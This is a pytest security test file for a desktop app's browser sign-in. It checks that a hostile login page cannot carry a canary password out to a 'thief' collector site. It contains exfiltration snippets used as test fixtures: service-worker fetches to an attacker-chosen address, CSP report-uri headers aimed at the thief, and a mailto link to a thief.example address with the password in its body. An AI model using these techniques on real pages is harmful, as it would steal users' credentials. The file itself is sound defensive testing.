"""SAFETY 39: 25 ways and more to carry a password out of a page. None arrives, and none makes contact at all."""

from __future__ import annotations

import asyncio
import os
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from playwright.async_api import Error as PlaywrightError
from playwright.async_api import async_playwright

from idexx_desktop.domain.failures import Failure, FailureCode
from idexx_desktop.domain.signin import NeoLogin
from idexx_desktop.neo.browser import candidates
from idexx_desktop.neo.exposure import TypedSecret
from idexx_desktop.neo.session import NeoSession
from tests.neo.collector import Collector
from tests.neo.one_browser import Run
from tests.neo.support import Canned, OddSite, form
from tests.neo.ways import LEAVING, OWN_ADDRESSES, WayOut, page_script, ways_out
from tests.support.waiting import wait_until

Make = Callable[..., NeoSession]
SECRET = "Canary4f9a7c21e"
LOGIN = NeoLogin("", "ana", SECRET)
NORMAL_RUN = 8
# what a way may take from the typing to its first contact: a worker starts, a connection is set up
_TRYING_SECONDS = 1.5


@pytest.fixture
def thief() -> Iterator[Collector]:
    """Another site, which takes down whoever makes contact."""
    with Collector() as collector:
        yield collector


def prepare(site: OddSite, ways: list[WayOut], thief: Collector, *, answer: Canned) -> threading.Event:
    """A sign-in page that tries these ways, and answers the form after they were tried, which is set then."""
    tried = threading.Event()

    def note() -> Canned:
        tried.set()
        return Canned("{}")

    def answered() -> Canned:
        tried.wait(10)
        return answer

    page = form(script=page_script(ways, thief.place, seconds=_TRYING_SECONDS))
    report = "img-src 'self' data: http://localhost:* http://*.localhost:*; report-uri"
    headers = {"Content-Security-Policy-Report-Only": f"{report} {thief.place.url}/csp-report"}
    if any(way.name == "policy-report" for way in ways):
        headers["Content-Security-Policy-Report-Only"] = (
            f"img-src {thief.place.url}; report-uri {thief.place.url}/csp-report"
        )
    site.answers["GET /login"] = Canned(page.text, headers=headers)
    site.answers["POST /login"] = answered
    site.answers["POST /tried"] = note
    for worker in ("shared", "service"):
        site.answers[f"GET /{worker}.js"] = Canned(
            "fetch(atob(location.search.slice(1)), {mode: 'no-cors'})",
            headers={"Content-Type": "text/javascript"},
        )
    return tried


def sign_in(run: Run, session: NeoSession) -> Failure | None:
    """Sign in once; what it ended with."""

    async def work() -> None:
        async with session:
            await session.sign_in(LOGIN)

    try:
        run(work())
    except Failure as failure:
        return failure
    return None


def without_guard(url: str, wanted: Callable[[], bool]) -> None:
    """What the same page does in the same browser as it is, with the same typing; waits for what is wanted."""

    async def run() -> None:
        async with async_playwright() as driver:
            found = candidates(None, driver.chromium.executable_path)
            path = next(one.path for one in found if Path(one.path).is_file())
            browser = await driver.chromium.launch(executable_path=path, chromium_sandbox=False)
            page = await browser.new_page()
            await page.goto(f"{url}/login")
            await page.fill("[name=password]", SECRET)
            with suppress(PlaywrightError):
                await page.click("button", no_wait_after=True)
            with suppress(AssertionError):
                await asyncio.to_thread(wait_until, wanted, 15)
            await browser.close()

    asyncio.run(run())


def compare(ways: list[WayOut], site: OddSite, thief: Collector, session_to: Make, run: Run) -> None:
    """Each way alone in the list: what it does without the guard, and that nothing at all comes with it."""
    marks = {way.name: way.mark or f"/{way.name}?" for way in ways}
    expected = {way.name for way in ways if way.arrives}
    tried = prepare(site, ways, thief, answer=form(alert='<p role="alert">Wrong password</p>'))
    without_guard(site.url, lambda: all(thief.heard(marks[name]) for name in expected))
    tried.set()  # that browser has gone, and may not have said it
    certain = [way.name for way in ways if way.arrives is not None]
    assert {name for name in certain if thief.heard(marks[name])} == expected
    thief.contacts.clear()
    site.asked.clear()
    prepare(site, ways, thief, answer=form(alert='<p role="alert">Wrong password</p>'))
    failure = sign_in(run, session_to(site.url))
    assert failure is not None
    assert failure.code is FailureCode.WRONG_PASSWORD
    assert "POST /tried" in [what for what, _, _ in site.asked]
    assert thief.contacts == []


def test_eight_ways_out_of_eight_kinds_lead_nowhere(
    odd_site: OddSite, thief: Collector, session_to: Make, in_one_browser: Run
) -> None:
    compare(ways_out(thief.place)[:NORMAL_RUN], odd_site, thief, session_to, in_one_browser)


@pytest.mark.long(item=39)
@pytest.mark.parametrize("number", range(len(ways_out())), ids=[way.name for way in ways_out()])
def test_no_way_out_leads_anywhere(
    number: int, odd_site: OddSite, thief: Collector, session_to: Make, in_one_browser: Run
) -> None:
    way = ways_out(thief.place)[number]
    compare([way], odd_site, thief, session_to, in_one_browser)
    print(
        f"{way.name}: without the guard it {'arrives' if way.arrives else 'is refused'}, with it nothing comes"
    )


@pytest.mark.long(item=39)
@pytest.mark.parametrize("way", LEAVING, ids=lambda way: way.name)
def test_the_page_itself_is_not_led_away(
    way: WayOut, odd_site: OddSite, thief: Collector, session_to: Make, in_one_browser: Run
) -> None:
    tried = prepare(odd_site, [way], thief, answer=form(alert='<p role="alert">Wrong password</p>'))
    without_guard(odd_site.url, lambda: thief.heard(f"/{way.name}?"))
    tried.set()
    assert thief.heard(f"/{way.name}?")
    thief.contacts.clear()
    failure = sign_in(in_one_browser, session_to(odd_site.url, timeout_seconds=3))
    assert failure is not None
    assert thief.contacts == []


def own_addresses(ways: list[WayOut], site: OddSite, thief: Collector, session_to: Make, run: Run) -> None:
    """The page tries to put the password into addresses of the site; nothing is asked with it but by the form."""
    prepare(site, ways, thief, answer=Canned(status=302, headers={"Location": "/home"}))
    site.answers["GET /home"] = Canned("<h1>Welcome</h1>")
    site.answers["GET /users"] = Canned('{"name": "Oak"}')
    failure = sign_in(run, session_to(site.url))
    secret = TypedSecret(SECRET)
    carried = [what for what, _, text in site.asked if secret.is_in(text)]
    assert carried == ["POST /login"]
    assert failure is not None, [way.name for way in ways]
    assert failure.code is FailureCode.PAGE_CHANGED
    assert "tried to put the password" in failure.title


def test_no_address_of_the_site_itself_holds_the_password(
    odd_site: OddSite, thief: Collector, session_to: Make, in_one_browser: Run
) -> None:
    own_addresses(OWN_ADDRESSES, odd_site, thief, session_to, in_one_browser)


@pytest.mark.long(item=39)
@pytest.mark.skipif(sys.platform != "linux", reason="another system starts programs in another way")
def test_no_other_program_is_started_with_the_password(
    odd_site: OddSite, thief: Collector, session_to: Make, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    started = tmp_path / "started"
    opener = tmp_path / "xdg-open"
    opener.write_text(f'#!/bin/sh\necho "$@" >> {started}\n')
    opener.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    mail = "const e = document.createElement('a'); e.href = 'mailto:a@thief.example?body=' + password;"
    prepare(odd_site, [WayOut("mail", f"{mail} add(e); e.click();")], thief, answer=form())
    without_guard(odd_site.url, started.exists)
    assert SECRET in started.read_text()
    started.unlink()
    assert sign_in(asyncio.run, session_to(odd_site.url)) is not None
    assert not started.exists()
